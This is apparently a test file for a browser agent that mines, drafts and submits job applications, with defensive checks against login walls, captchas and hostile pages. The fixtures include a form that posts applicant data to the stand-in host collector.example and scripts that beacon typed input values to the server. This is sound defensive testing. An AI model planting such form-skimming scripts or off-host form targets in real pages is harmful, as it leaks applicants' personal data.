import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { fillDraft } from "#agents/action/fill-draft.ts";
import { mineForm } from "#agents/action/mine-form.ts";
import { reconcile } from "#agents/action/reconcile.ts";
import { submit } from "#agents/action/submit.ts";
import { closeBrowsers } from "#agents/browser/launch.ts";
import { draftHash } from "#data/model/application/draft.ts";
import { Fault } from "#data/model/faults.ts";
import type { FoundPosting } from "#data/model/job/posting.ts";
import type { FileRef } from "#data/model/schema.ts";
import { type Judge, startJudge } from "./judge.ts";
import { hostedPosting, type TestTask, testTask } from "./task.ts";

let judge: Judge;
let task: TestTask;
let cv: FileRef;
beforeAll(async () => {
  judge = await startJudge();
  task = testTask([judge.host], () => onArm());
  cv = await task.put("cv.pdf", "%PDF");
});
beforeEach(() => void judge.received.splice(0));
afterAll(async () => {
  await closeBrowsers();
  await judge.close();
  task.close();
});

/** What the ledger does before it answers; a test may let it take its time. */
let onArm = async (): Promise<void> => {};

const FIELDS = `<label>Full name * <input name="n"></label><label>Email * <input name="e"></label><label>Resume <input type="file" name="cv"></label>`;
const form = (inside: string, attributes = `action="/sent" method="post" enctype="multipart/form-data"`) =>
  `<form ${attributes}>${inside}</form>`;
const SEND = "<button>Submit application</button>";
const profile = { fullName: "Ana Ruiz", email: "ana@mail.example" };

let count = 0;
function posting(html: string): FoundPosting {
  const url = judge.page(`p${(count += 1)}.html`, `<!doctype html><title>Job</title><h1>Baker</h1>${html}`);
  return { ...at(url) };
}
function at(url: string): FoundPosting {
  return {
    source: "page",
    board: "b",
    externalId: null,
    url,
    applyUrl: url,
    questionsUrl: null,
    platform: "generic",
    company: "Crumb",
    title: "Baker",
    place: null,
    department: null,
    postedAt: null,
    updatedAt: null,
    expiresAt: null,
    language: null,
    html: "",
    text: "",
  };
}
const inputFor = (where: FoundPosting) => ({
  posting: where,
  form: { platform: "generic" as const, url: "", questions: [], origin: "page" as const },
  facts: [],
  profile,
  bank: [],
  given: [],
  selfIdentification: {},
  files: { cv, letter: null },
});
const draft = (where: FoundPosting) => fillDraft(inputFor(where), task.context);

async function faultOf(work: Promise<unknown>): Promise<Fault> {
  try {
    await work;
  } catch (error) {
    return Fault.of(error);
  }
  throw new Error("no fault");
}

describe("what stands in the way is named", () => {
  test.each([
    [
      "a sign-in",
      `<form><label>Email <input name="e"></label><label>Password <input type="password"></label><button>Sign in</button></form>`,
      "login_wall",
    ],
    ["a job that is gone", "<p>Sorry, this job is no longer available.</p>", "posting_expired"],
    ["a job that is gone, in German", "<p>Diese Stelle ist bereits besetzt.</p>", "posting_expired"],
    [
      "a challenge for a page",
      `<p>Verify you are human</p><iframe title="captcha challenge" style="width:300px;height:200px" srcdoc="x"></iframe>`,
      "challenge",
    ],
    [
      "a closed root",
      `<x-box label="Name" style="display:block;width:200px;height:40px"></x-box><script>customElements.define("x-box", class extends HTMLElement { connectedCallback() { this.attachShadow({ mode: "closed" }).innerHTML = "<input>"; } })</script>`,
      "form_unreadable",
    ],
  ])("%s", async (_, html, code) => {
    const where = posting(html);
    expect(await faultOf(mineForm({ posting: where }, task.context))).toMatchObject({ code });
  });

  test("an address without a page", async () => {
    expect(await faultOf(mineForm({ posting: at(`${judge.origin}/nothing.html`) }, task.context))).toMatchObject({
      code: "posting_expired",
      next: "give_up",
    });
  });

  test("a posting without an address, and one on a host that is private", async () => {
    expect(await faultOf(mineForm({ posting: { ...at(""), url: null, applyUrl: null } }, task.context))).toMatchObject({
      code: "no_form_address",
    });
    const fault = await faultOf(mineForm({ posting: at("http://127.0.0.1:9/jobs") }, task.context));
    expect(["page_unreachable", "address_refused"]).toContain(fault.code);
  });

  test.each([
    [
      "a visible challenge beside the form",
      `${form(FIELDS + SEND)}<iframe title="captcha challenge" style="width:300px;height:80px" srcdoc="tick me"></iframe>`,
      "challenge",
    ],
    [
      "an invisible one",
      `${form(FIELDS + SEND)}<div data-sitekey="x"></div><iframe title="reCAPTCHA" style="width:256px;height:60px;visibility:hidden" srcdoc="x"></iframe>`,
      null,
    ],
    ["a form of several pages", form(`${FIELDS}<button type="button">Save and continue</button>`), "several_pages"],
    ["a form without a button to send it", form(FIELDS), "submit_not_found"],
  ])("in a draft: %s", async (_, html, code) => {
    const filled = await draft(posting(html));
    expect(filled.fault?.code ?? null).toBe(code);
    expect(filled.readBack.map(({ agrees }) => agrees)).toEqual([true, true, true]);
    expect(judge.received).toEqual([]);
  });
});

test("the posting's own Apply is followed, a partner's and a talent community's are not", async () => {
  const target = posting(form(FIELDS + SEND)).url ?? "";
  const where = posting(
    `<a href="/linkedin">Apply with LinkedIn</a><a href="/pool">Join our talent community</a><a href="${target}">Apply now</a>`,
  );
  const mined = await mineForm({ posting: where }, task.context);
  expect(mined.url).toBe(target);
  expect(mined.questions.map(({ label }) => label)).toEqual(["Full name", "Email", "Resume"]);
});

test("a choice that the form makes by itself is the owner's to confirm", async () => {
  const inside = `${FIELDS}<label>Contract <select name="c"><option>Full time</option><option>Part time</option></select></label><label>Notes <input name="x" value="from the page"></label>${SEND}`;
  const filled = await draft(posting(form(inside)));
  expect(filled.answers.find(({ key }) => key === "contract")).toMatchObject({
    state: "ask",
    suggestion: { labels: ["Full time"] },
  });
  expect(filled.answers.find(({ key }) => key === "notes")).toMatchObject({ state: "left_empty" });
  expect(filled.fault).toBeNull();
});

test("a schema's required question that the page no longer asks is said", async () => {
  const where = posting(form(FIELDS + SEND));
  const gone = {
    key: "question_1",
    label: "Favourite bread",
    help: null,
    kind: "text" as const,
    required: true,
    requiredBecause: "schema",
    options: [],
    maxLength: null,
    accept: [],
    section: null,
    sensitivity: null,
  };
  const filled = await fillDraft(
    { ...inputFor(where), form: { platform: "generic", url: "", questions: [gone], origin: "schema" } },
    task.context,
  );
  expect(filled.fault).toMatchObject({ code: "form_changed", message: expect.stringContaining("Favourite bread") });
});

async function sendOff(html: string) {
  const where = posting(html);
  const filled = await draft(where);
  expect(filled.fault).toBeNull();
  const hash = draftHash({
    posting: where,
    form: filled.form,
    answers: filled.answers,
    files: { cv: cv.sha256, letter: null },
  });
  return submit(
    { posting: where, form: filled.form, answers: filled.answers, hash, files: { cv, letter: null } },
    task.context,
  );
}

test("a form that would go to a stranger's host is not sent there", async () => {
  const verdict = await sendOff(
    form(FIELDS + SEND, `action="http://collector.example/take" method="post" enctype="multipart/form-data"`),
  );
  expect(verdict).toMatchObject({ kind: "rejected", because: expect.stringContaining("nothing was sent") });
  expect(judge.received).toEqual([]);
});

const SAVING = `<script>for (const one of document.querySelectorAll("input")) one.addEventListener("change", () => navigator.sendBeacon("/autosave", new URLSearchParams({ all: [...document.querySelectorAll("input:not([type=file])")].map((x) => x.value).join() })))</script>`;
const TWICE = `<script>let again = true; const b = document.querySelector("button"); b.addEventListener("click", () => again && setTimeout(() => { again = false; b.click(); }, 5))</script>`;

test("a page that saves as one types saves nothing, and its saving is not taken for the submission", async () => {
  expect(await sendOff(form(FIELDS + SEND) + SAVING)).toMatchObject({ kind: "verified" });
  expect(judge.received.map(({ path }) => path)).toEqual(["/sent"]);
});

const RESTLESS = `<script>const restless = setInterval(() => fetch("/eager", { method: "POST", body: new URLSearchParams({ all: [...document.querySelectorAll("input:not([type=file])")].map((x) => x.value).join() }) }), 200); for (const near of ["pointermove", "pointerdown"]) addEventListener(near, () => clearInterval(restless), true)</script>`;

test("a page that sends by itself while the ledger still answers sends nothing before its answer", async () => {
  let before: number | null = null;
  // Empty fields may be sent about while nothing of the owner stands in them.
  const told = () => judge.received.filter((one) => JSON.stringify(one).includes("ana@mail.example"));
  onArm = async () => {
    await new Promise((resolve) => setTimeout(resolve, 800));
    before = told().length;
  };
  try {
    await sendOff(form(FIELDS + SEND) + RESTLESS);
  } finally {
    onArm = async () => {};
  }
  expect(before).toBe(0);
  // Afterwards the opening lets one request through, whichever comes first.
  expect(told().length).toBeLessThanOrEqual(1);
});

test("a button that its page presses a second time sends once", async () => {
  const verdict = await sendOff(form(FIELDS + SEND) + TWICE);
  // The browser drops the first sending, or its answer, for the second press, which the gate holds: then nobody knows.
  const arrived = judge.received.map(({ path }) => path);
  expect([[], ["/sent"]]).toContainEqual(arrived);
  expect(arrived.length === 0 ? ["uncertain"] : ["verified", "uncertain"]).toContain(verdict.kind);
});

test("a field that is refused before anything is sent", async () => {
  const refusing = `<p role="alert" id="why"></p><script>document.querySelector("form").addEventListener("submit", (event) => { event.preventDefault(); why.textContent = "Please enter a valid e-mail address"; })</script>`;
  expect(await sendOff(form(FIELDS + SEND) + refusing)).toMatchObject({
    kind: "rejected",
    because: expect.stringContaining("valid e-mail"),
  });
  expect(judge.received).toEqual([]);
});

test.each([
  ["<p>You have already applied to this job on 3 May.</p>", "already_applied"],
  ["<p>Sie haben sich bereits auf diese Stelle beworben.</p>", "already_applied"],
  ["<p>Vous avez déjà postulé à cette offre.</p>", "already_applied"],
  [form(FIELDS + SEND), "uncertain"],
  [`<p>Already applied with us.</p>${form(FIELDS + SEND)}`, "likely"],
  ["<p>Sorry, this job is no longer available.</p>", "uncertain"],
])("looking again at %j: %s", async (html, kind) => {
  expect((await reconcile({ posting: posting(html) }, task.context)).kind).toBe(kind);
  expect(judge.received).toEqual([]);
});

test("the board's own answer is used where it is one", async () => {
  const where = posting(form(FIELDS + SEND));
  const broken = {
    ...hostedPosting({ origin: judge.origin } as never, "1", "Cork"),
    ...where,
    questionsUrl: judge.page("questions.json", "<html>oops</html>"),
  };
  expect((await mineForm({ posting: broken }, task.context)).origin).toBe("page");
  const good = {
    ...where,
    questionsUrl: judge.page(
      "q2.json",
      JSON.stringify({
        questions: [
          { label: "First &amp; last name", required: true, fields: [{ name: "n", type: "input_text", values: [] }] },
        ],
      }),
    ),
  };
  expect(await mineForm({ posting: good }, task.context)).toMatchObject({
    origin: "schema",
    questions: [{ key: "n", label: "First & last name", required: true }],
  });
});
